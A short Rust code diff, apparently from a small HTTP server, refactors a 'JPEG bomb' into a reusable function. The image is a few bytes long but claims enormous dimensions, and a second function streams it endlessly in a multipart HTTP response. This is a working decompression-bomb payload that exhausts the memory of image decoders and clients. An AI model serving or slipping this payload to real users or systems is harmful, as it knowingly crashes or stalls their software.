@@ -98,15 +98,21 @@ fn http(mode: &str, out: &mut TcpStream) -> Option<bool> {
     }
 }
 
-/// A JPEG of few bytes that says to be of 65500x65500 pixels, again and again.
-fn bomb(out: &mut TcpStream) -> Option<bool> {
+/// A JPEG of few bytes that says to be of 65500x65500 pixels.
+pub fn jpeg_bomb() -> Vec<u8> {
     let mut jpeg = b"\xff\xd8\xff\xdb\x00\x43\x00".to_vec();
     jpeg.extend([1; 64]);
     jpeg.extend(b"\xff\xc0\x00\x0b\x08\xff\xdc\xff\xdc\x01\x01\x11\x00");
-    jpeg.extend(b"\xff\xc4\x00\x14\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00");
+    jpeg.extend(b"\xff\xc4\x00\x14\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00");
     jpeg.extend(b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00");
     jpeg.extend([0; 2000]);
     jpeg.extend(b"\xff\xd9");
+    jpeg
+}
+
+/// The same picture again and again.
+fn bomb(out: &mut TcpStream) -> Option<bool> {
+    let jpeg = jpeg_bomb();
     out.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: multipart/x-mixed-replace; boundary=b\r\n\r\n").ok()?;
     loop {
         let head = format!("--b\r\nContent-Type: image/jpeg\r\nContent-Length: {}\r\n\r\n", jpeg.len());
